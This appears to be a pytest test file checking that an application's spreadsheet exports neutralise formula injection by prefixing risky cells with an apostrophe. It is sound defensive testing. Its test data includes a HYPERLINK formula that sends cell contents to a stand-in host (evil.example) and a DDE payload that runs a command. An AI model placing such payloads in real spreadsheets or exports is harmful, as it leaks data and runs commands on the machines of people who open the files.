"""No cell of any export runs as a formula in a spreadsheet: text starting with = + - @, a tab
or a carriage return gets a leading apostrophe (core.text.neutralise_formula)."""

import pytest

from coverage.services import snapshot_take
from tests.coverage.exports import client_of, table, url
from tests.factories import AccountFactory, person
from tests.workflow.helpers import put_on_list

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]


@pytest.fixture
def hostile_list(people, the_cycle):
    # Owners whose names are formulas too: the owner columns are text from people.
    seller = person("=cmd|' /C calc'!A0", side="sales")
    marketer = person("@marketer", side="marketing")
    for n, name in enumerate(HOSTILE):
        account = AccountFactory(
            name=name, domain=f"hostile{n}.example", sales_owner=seller, marketing_owner=marketer
        )
        put_on_list(people, the_cycle, account, tier=1)
    snapshot_take(cycle=the_cycle)
    return the_cycle


def _neutralised(value: str) -> bool:
    return value.startswith("'") and value[1:].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("export", ["coverage_accounts", "agreed_list"])
def test_names_that_are_formulas_arrive_as_text(people, hostile_list, export):
    rows = table(client_of(people.ops).get(url(export, hostile_list)))
    names = sorted(row["account_name"] for row in rows)
    assert names == sorted("'" + name for name in HOSTILE)
    for row in rows:
        assert _neutralised(row["sales_owner"]), row["sales_owner"]
        assert _neutralised(row["marketing_owner"]), row["marketing_owner"]


def test_owner_names_that_are_formulas_arrive_as_text_in_the_aggregates(people, hostile_list):
    rows = table(client_of(people.ops).get(url("coverage_aggregates", hostile_list)))
    owners = [row for row in rows if row["owner_username"]]
    assert owners
    for row in owners:
        assert _neutralised(row["owner_username"]), row["owner_username"]
        assert _neutralised(row["owner_name"]) or not row["owner_name"].startswith(
            ("=", "+", "-", "@")
        )


def test_no_cell_of_any_export_starts_a_formula(people, hostile_list):
    client = client_of(people.ops)
    for export in ("coverage_accounts", "coverage_aggregates", "agreed_list"):
        for row in table(client.get(url(export, hostile_list))):
            for column, value in row.items():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (export, column)
                # Negative numbers do not occur in these files; a leading minus is text.
                assert not value.startswith("-"), (export, column)
